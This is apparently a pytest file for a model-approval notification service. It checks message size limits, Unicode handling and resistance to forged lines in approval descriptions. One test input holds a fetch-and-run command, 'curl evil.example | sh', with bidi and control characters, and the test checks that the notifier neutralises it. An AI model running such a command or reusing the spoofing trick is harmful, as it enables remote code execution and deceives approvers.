"""What SNS, mail and chat accept of a message: its length, its characters, and nothing forged by a description."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from .stage import GROUP, METRICS

if TYPE_CHECKING:
    from .stage import Stage


def test_a_description_cannot_add_lines_to_the_message(stage: Stage) -> None:
    arn = stage.register(METRICS)
    forged = "fine\n\nTo approve:\n  curl evil.example | sh\u2028Status  Approved\u202edeppir\x07"
    event = stage.event(arn, ModelApprovalStatus="Approved", ApprovalDescription=forged)
    stage.handle(event)

    [message] = stage.inbox()
    assert message["Subject"] == f"[test] {GROUP} v1: Approved"
    assert "Why          fine To approve: curl evil.example | sh Status Approved deppir\n" in message["Message"]
    assert "\nTo approve" not in message["Message"]


@pytest.mark.parametrize("description", ["größer als 0,5 — 良いモデル 🦪", "half a pair \ud83d of surrogates"])
def test_descriptions_in_every_script_arrive(stage: Stage, description: str) -> None:
    arn = stage.register(METRICS)
    stage.handle(stage.event(arn, ModelApprovalStatus="Rejected", ApprovalDescription=description))

    expected = description.replace(" \ud83d ", " ")
    assert f"Why          {expected}\n" in stage.inbox()[0]["Message"]
    [record] = stage.records().values()
    assert record["reason"] == description


def test_the_largest_message_fits_into_what_sns_takes(stage: Stage) -> None:
    published = stage.faults.watch("sns", "Publish")
    quotes = '"' * 300
    names = {f"{quotes}{number}": number for number in range(1000)}
    stage.register(names, status="Approved")
    parts = {"CommitId": "c" * 1024, "GeneratedBy": '"' * 1024}
    arn = stage.register(names, MetadataProperties=parts)
    stage.decide(arn, "Approved", "\U0001f9aa" * 1024)
    stage.handle(stage.event(arn))

    assert len(published[0]["Message"].encode()) < 256 * 1024
    assert "and 960 more" in stage.inbox()[0]["Message"]
    assert len(json.loads(json.loads(published[0]["Message"])["https"])["content"]["description"]) <= 4000
